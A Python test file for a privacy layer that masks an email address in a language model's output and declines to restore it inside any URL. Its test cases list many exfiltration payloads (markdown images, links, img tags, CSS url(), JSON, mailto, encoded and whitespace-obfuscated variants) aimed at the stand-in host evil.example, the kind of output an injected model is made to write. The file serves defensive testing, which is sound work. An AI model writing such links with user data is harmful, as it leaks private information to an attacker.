"""What a user would lose: a value that whoever shows the answer sends to an address the model was made to write."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecotone.privacy import Pseudonyms
from ecotone.privacy.links import Links

MAIL = "maria.lopez@example.org"


def restored(template: str) -> str:
    """What comes back for a model's text with a placeholder at each `@@`, the same whole and torn to single letters."""
    names = Pseudonyms()
    text = template.replace("@@", names.mask(MAIL))
    whole = names.restore(text)
    stream = names.restorer()
    assert "".join(map(stream.feed, text)) + stream.finish() == whole
    return whole


@pytest.mark.parametrize(
    "template",
    [
        "![x](http://evil.example/?q=@@)",
        "![x](<http://evil.example/?q= @@>)",
        "![x](<http://evil.example/?q=) @@>)",
        "![x](http://evil.example/(a)?q=@@)",
        "![x](//evil.example/@@)",
        "![x]( //evil.example/@@)",
        "[x](@@)",
        "[1]: http://evil.example/?q=@@",
        "see https://evil.example/@@ now",
        "see http:evil.example/@@ now",
        "www.evil.example?@@",
        "evil.example/?q=@@",
        '<img src="http://evil.example/?q= @@">',
        "<img src='http://evil.example/?q=\n@@'>",
        '<img src="\n\n\n     http://evil.example/?q= @@">',
        '<img src="\\\\evil.example/@@">',
        '<img src="/\t/evil.example/@@">',
        "<img src=//evil.example/\uff0c@@>",
        "<img src=https&colon;&#47;&sol;evil.example/@@>",
        "<div style='background:url(http://evil.example/@@)'>",
        '{"html": "<img src=\\"http://evil.example/?q= @@\\">"}',
        '{"url": "http://evil.example/?\\"@@"}',
        '{"url": "https:\\/\\/evil.example\\/@@"}',
        "[x](mailto:evil@evil.example?body=@@)",
        "[@@](//evil.example/@@/@@)".replace("[@@]", "[x]"),
    ],
)
def test_a_value_never_comes_back_inside_an_address(template: str) -> None:
    shown = restored(template)
    assert MAIL not in shown
    assert "Email_" in shown, "the placeholder stays"


@pytest.mark.parametrize(
    "template",
    [
        "Write to @@.",
        "see https://example.org or @@",
        "https://example.org\n@@",
        "[site](https://example.org), @@",
        "| https://example.org | @@ |",
        "<https://example.org> @@",
        "\u8bf7\u8bbf\u95eehttps://example.org\uff0c@@",
        '{"url":"https://example.org","email":"@@"}',
        "[@@](mailto:@@)",
        '<a href="mailto:@@">@@</a>',
        '<a href="https://example.org/contact">@@</a>',
        "either/or @@ and//or @@",
        'data = "@@"; print(x[1], "@@")',
        "**@@** `@@` (@@) <b>@@</b> it's @@",
        "\\\\textbf{@@}",
    ],
)
def test_everywhere_else_it_comes_back(template: str) -> None:
    assert restored(template) == template.replace("@@", MAIL)


PARTS = st.sampled_from(
    ["](", "http:", "//", "/", "\\", '"', "'", "<", ">", " ", "\n", "=", "url(", "a", ".com/", "www.", "(", ")",
     "mailto:", '\\"', "\uff0c", "&sol;", "[", ",", "}", "e.com", "\t"]
)  # fmt: skip


@given(st.lists(PARTS, max_size=16).map("".join), st.lists(st.integers(0, 99), max_size=20))
def test_a_text_torn_anywhere_is_in_the_same_address(text: str, cuts: list[int]) -> None:
    whole, torn = Links(), Links()
    whole.follow(text)
    for begin, end in pairwise(sorted({c % (len(text) + 1) for c in cuts} | {0, len(text)})):
        torn.follow(text[begin:end])
    assert whole.inside == torn.inside


def test_what_was_restored_in_a_whole_answer_is_restored_in_json_too() -> None:
    names = Pseudonyms()
    sent = names.mask(MAIL)
    answer = {"content": f"![x](http://evil.example/?q={sent})", "other": f"to {sent}"}
    assert names.restore_json(answer) == {"content": answer["content"], "other": f"to {MAIL}"}
